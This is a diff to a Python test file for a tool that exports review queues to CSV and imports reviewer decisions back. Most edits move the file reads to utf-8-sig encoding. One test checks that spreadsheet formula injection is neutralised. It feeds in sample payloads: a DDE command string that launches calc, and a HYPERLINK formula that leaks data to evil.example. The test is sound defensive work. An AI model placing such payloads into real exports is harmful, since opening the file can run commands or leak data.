@@ -85,7 +85,7 @@ def test_export_has_one_record_per_item_with_marked_changes(tmp_path, shared_dat
     assert "[-Find-]{+Determine+}" in r0["text_changes"]
     assert r0["ancestor_answer"] != r0["child_answer"]
     assert r0["confirmed"]["se"] == 0.3 and r0["review"]["status"] == "pending"
-    rows = list(csv.DictReader(csv_path.open()))
+    rows = list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))
     assert len(rows) == 4 and rows[3]["flags"] == "near_duplicate"
     assert rows[0]["probe_results"].startswith("p0: 3/8 (ability -0.50)")
     assert not list((run / "review").glob("*.tmp"))
@@ -94,7 +94,7 @@ def test_export_has_one_record_per_item_with_marked_changes(tmp_path, shared_dat
 def test_import_round_trip_is_atomic_and_idempotent(tmp_path, shared_data):
     run = make_run(tmp_path, shared_data)
     _, csv_path = export_queue(run)
-    rows = list(csv.DictReader(csv_path.open()))
+    rows = list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))
     rows[0].update(reviewer="ann", decision="accept")
     rows[1].update(reviewer="", decision="reject", reason="two answers fit")
     rows[2].update(reviewer="bob", decision="edit", edited_text="Edited text.", edited_answer="7")
@@ -123,7 +123,7 @@ def test_import_round_trip_is_atomic_and_idempotent(tmp_path, shared_data):
 
 def _edit_sheet(path, **cells_by_row):
     """Fill cells of an exported sheet in place: cells_by_row maps a row ("r0") to its cells."""
-    rows = list(csv.DictReader(path.open(encoding="utf-8")))
+    rows = list(csv.DictReader(path.open(encoding="utf-8-sig")))
     for i, cells in cells_by_row.items():
         rows[int(i[1:])].update(cells)
     with path.open("w", newline="", encoding="utf-8") as fh:
@@ -136,7 +136,7 @@ def _sheet(run, tmp_path, name="filled.csv", **fills):
     """The exported sheet with rows filled in: fills maps a row ("r0") to the cells to set; a cell "@r2"
     takes that row's value of the column (a row duplicated by hand)."""
     _, csv_path = export_queue(run, tmp_path / f"export-{name}")
-    rows = list(csv.DictReader(csv_path.open(encoding="utf-8")))
+    rows = list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))
     exported = [dict(r) for r in rows]
     for i, cells in fills.items():
         rows[int(i[1:])].update({c: exported[int(v[2:])][c] if v.startswith("@r") else v for c, v in cells.items()})
@@ -282,7 +282,7 @@ def test_export_keeps_a_filled_sheet_until_it_is_imported(tmp_path, shared_data)
     assert "ann" in csv_path.read_text(encoding="utf-8")
     assert import_decisions(run, csv_path) == 1
     export_queue(run)  # imported: a fresh sheet may replace it
-    assert list(csv.DictReader(csv_path.open(encoding="utf-8")))[0]["status"] == "accepted"
+    assert list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))[0]["status"] == "accepted"
 
 
 def test_export_takes_a_sheet_imported_under_a_reviewer_or_overridden_since(tmp_path, shared_data):
@@ -301,7 +301,7 @@ def test_export_takes_a_sheet_imported_under_a_reviewer_or_overridden_since(tmp_
     with pytest.raises(DataError, match=r"carol decided 'reject'.*after this sheet was exported"):
         import_decisions(run, csv_path)  # the first sheet's accept would undo the later reject
     export_queue(run)  # ... and cannot be imported any more: it does not hold the export back
-    rows = list(csv.DictReader(csv_path.open(encoding="utf-8")))
+    rows = list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))
     assert rows[1]["status"] == "rejected" and rows[1]["decision"] == ""
 
 
@@ -335,7 +335,7 @@ def test_a_fresh_sheet_shows_the_standing_edit(tmp_path, shared_data):
     _edit_sheet(csv_path, r0={"reviewer": "bob", "decision": "edit", "edited_answer": "99"})
     assert import_decisions(run, csv_path) == 1
     export_queue(run)
-    rows = list(csv.DictReader(csv_path.open(encoding="utf-8")))
+    rows = list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))
     assert rows[0]["edited_by"] == "bob" and json.loads(rows[0]["edited_to"]) == {"answer": "99"}
     assert rows[1]["edited_by"] == "" and rows[1]["edited_to"] == ""
     assert import_decisions(run, csv_path) == 0  # the sheet still reads back: its rows are still their items
@@ -402,9 +402,11 @@ def test_a_sheet_runs_no_formula_and_still_round_trips(tmp_path, shared_data):
     recs[0]["ancestor_id"] = "+cmd|' /C calc'!A0"
     recs[1]["child"]["problem"] = "-2+3 " + recs[1]["child"]["problem"]
     recs[2]["ancestor_id"] = '=HYPERLINK("http://evil.example/?leak","click")\t'
+    recs[3]["child"]["problem"] = "'-'.join(xs) " + recs[3]["child"]["problem"]  # an apostrophe of its own
     queue.write_text("".join(json.dumps(r) + "\n" for r in recs))
     _, csv_path = export_queue(run)
-    rows = list(csv.DictReader(csv_path.open()))
+    assert csv_path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8, not its code page
+    rows = list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))
     def number(v):
         try:
             return float(v) == float(v)
@@ -414,13 +416,14 @@ def test_a_sheet_runs_no_formula_and_still_round_trips(tmp_path, shared_data):
     risky = [(r["item_id"], k, v) for r in rows for k, v in r.items() if v and v[0] in "=+-@\t\r" and not number(v)]
     assert risky == []  # a negative difficulty stays a number
     assert rows[0]["ancestor_id"] == "'+cmd|' /C calc'!A0" and rows[1]["child_text"].startswith("'-2+3 ")
-    for r in rows[:3]:
+    assert rows[3]["child_text"].startswith("''-'.join(xs) ")
+    for r in rows[:4]:
         r.update(reviewer="ann", decision="accept")
     with csv_path.open("w", newline="") as fh:
         w = csv.DictWriter(fh, fieldnames=list(rows[0]))
         w.writeheader()
         w.writerows(rows)
-    assert import_decisions(run, csv_path) == 3
+    assert import_decisions(run, csv_path) == 4  # the fourth had been refused as not the queue's text
 
 
 def test_an_edit_builds_on_the_edit_in_force_and_a_stale_version_is_refused(tmp_path, shared_data):
